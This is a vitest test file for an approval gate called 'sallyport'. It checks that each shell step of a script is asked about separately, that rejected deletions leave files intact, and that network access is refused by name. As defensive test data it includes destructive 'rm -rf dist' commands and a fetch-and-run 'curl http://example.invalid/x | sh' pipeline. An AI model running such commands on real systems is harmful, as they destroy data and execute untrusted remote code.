import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { questionCases } from '../cases/exec/questions.ts';
import {
  allowOnce,
  makeFolder,
  type RealEngine,
  rejectWith,
  startRealEngine,
} from '../support/real-engine.ts';

const isLinux = process.platform === 'linux';

describe.skipIf(!isLinux)('questions of a script (Linux: real gate and wall)', () => {
  let real: RealEngine;
  beforeAll(async () => {
    real = await startRealEngine();
  });
  afterAll(() => real.stop());

  function makeWorkspace() {
    const folder = makeFolder();
    mkdirSync(join(folder.path, 'dist'));
    writeFileSync(join(folder.path, 'dist', 'kept'), 'x');
    writeFileSync(join(folder.path, 'clean.sh'), '#!/bin/sh\nrm -rf dist\n');
    chmodSync(join(folder.path, 'clean.sh'), 0o755);
    return folder;
  }

  test.each(questionCases)('$name: asked once each, and rejected it runs nothing', async (row) => {
    const folder = makeWorkspace();
    const ran = await real.run(row.script, {
      cwd: folder.path,
      policy: 'untrusted',
      answer: () => rejectWith('no'),
    });
    const isKept = existsSync(join(folder.path, 'dist', 'kept'));
    folder.remove();
    expect(ran.questions.map((question) => question.text)).toEqual(row.questions);
    expect(new Set(ran.questions.map((question) => question.approvalId)).size).toBe(row.questions.length);
    expect(isKept).toBe(true);
    expect(ran.result).toMatchObject({ outcome: 'ran', exitCode: row.exitCode });
    for (const question of ran.questions)
      expect(ran.stdout + ran.stderr).toContain(`sallyport: rejected ${question.approvalId}: no`);
  });

  test.each(questionCases)(
    '$name: with everything but rm allowed, rm is still asked and dist stays',
    async (row) => {
      const folder = makeWorkspace();
      const ran = await real.run(row.script, {
        cwd: folder.path,
        policy: 'untrusted',
        answer: (approval) => (approval.argv?.[0] === 'rm' ? rejectWith('not rm') : allowOnce),
      });
      const isKept = existsSync(join(folder.path, 'dist', 'kept'));
      folder.remove();
      expect(ran.questions.filter((question) => question.argv?.[0] === 'rm')).toHaveLength(
        row.questions.length,
      );
      expect(isKept).toBe(true);
    },
  );

  test.each(questionCases)('$name: the same script without a gate does delete it', (row) => {
    const folder = makeWorkspace();
    try {
      execFileSync('/bin/bash', ['--norc', '--noprofile', '-c', row.script], {
        cwd: folder.path,
        stdio: 'ignore',
      });
    } catch {
      // The status is not what is looked at here.
    }
    const isGone = !existsSync(join(folder.path, 'dist'));
    folder.remove();
    expect(isGone).toBe(true);
  });

  test('each step has its own question when the shell gets there; allowing one allows no other', async () => {
    const folder = makeWorkspace();
    execFileSync('git', ['init', '-q', '.'], { cwd: folder.path });
    const script = 'node --version && echo hi > a.txt && rm -rf dist; git status';
    const seen: boolean[] = [];
    const ran = await real.run(script, {
      cwd: folder.path,
      policy: 'untrusted',
      answer: (approval) => {
        seen.push(existsSync(join(folder.path, 'a.txt')));
        return approval.text === 'rm -rf dist' ? rejectWith('keep dist') : allowOnce;
      },
    });
    const after = {
      dist: existsSync(join(folder.path, 'dist/kept')),
      a: existsSync(join(folder.path, 'a.txt')),
    };
    folder.remove();
    expect(ran.questions.map((question) => question.text)).toEqual([
      'node --version',
      'echo hi > a.txt',
      'rm -rf dist',
    ]);
    expect(seen).toEqual([false, false, true]);
    expect(after).toEqual({ dist: true, a: true });
    expect(ran.stdout).toContain('On branch');
    expect(ran.stderr).toContain(`sallyport: rejected ${ran.questions[2]?.approvalId}: keep dist`);
    const rejected = ran.events.find(
      (event) => event.type === 'step/finished' && event.outcome === 'rejected',
    );
    expect(rejected).toMatchObject({ feedback: 'keep dist' });
    const finished = ran.events.filter((event) => event.type === 'step/finished' && event.outcome === 'ran');
    expect(finished.map((event) => (event.type === 'step/finished' ? event.exitCode : null))).toEqual([
      0,
      undefined,
      0,
      0,
    ]);
  });

  test('nobody there to answer: refused at once with the reason, and nothing ran', async () => {
    const folder = makeWorkspace();
    const ran = await real.run('rm -rf dist', { cwd: folder.path, policy: 'untrusted', answers: 'nobody' });
    const isKept = existsSync(join(folder.path, 'dist', 'kept'));
    folder.remove();
    expect(ran.questions).toEqual([]);
    expect(isKept).toBe(true);
    expect(ran.result.exitCode).toBe(126);
    expect(ran.stderr).toContain('sallyport: refused: nobody can answer');
    expect(ran.stderr).toMatch(/nobody can answer the question here: rm -rf dist\. Way out: .*--wait/);
  });

  test.each([
    ['curl http://foo.example/', 'foo.example', '--allow-domain HOST'],
    ['echo x > /var/tmp/sallyport-nowhere', '/var/tmp/sallyport-nowhere', '--add-dir DIR'],
  ])('under never %s is refused by name, with the way out', async (script, name, way) => {
    const folder = makeWorkspace();
    const ran = await real.run(script, { cwd: folder.path, policy: 'never' });
    folder.remove();
    const line =
      ran.stderr.split('\n').find((text) => text.startsWith('sallyport: refused:')) ?? ran.result.message;
    expect(line).toContain(name);
    expect(line).toContain(`Way out: ${way}; or -a on-request`);
  });

  test('an asker that is killed while it waits withdraws its question', async () => {
    const folder = makeWorkspace();
    const ran = await real.run('rm -rf dist & sleep 1; kill -9 $!; wait $!; echo "status $?"; sleep 1', {
      cwd: folder.path,
      policy: 'untrusted',
      answer: (approval) => (approval.argv?.[0] === 'rm' ? undefined : allowOnce),
    });
    folder.remove();
    expect(ran.stdout).toContain('status 137');
    const ends = ran.events.flatMap((event) => (event.type === 'approval/withdrawn' ? [event.reason] : []));
    expect(ends).toEqual(['the asking program is gone']);
  });

  test('a shell that reads what an address gave is asked itself, in front of the whole pipeline', async () => {
    const folder = makeWorkspace();
    const ran = await real.run('curl http://example.invalid/x | sh', {
      cwd: folder.path,
      policy: 'on-request',
      answer: () => rejectWith('no'),
    });
    folder.remove();
    expect(ran.questions.map((question) => question.text)).toEqual(['curl http://example.invalid/x', 'sh']);
    expect(ran.questions[1]?.risk?.level).toBe('critical');
    expect(ran.questions[1]?.scopes).toEqual(['once']);
    expect(ran.result.exitCode).toBe(126);
  });
});
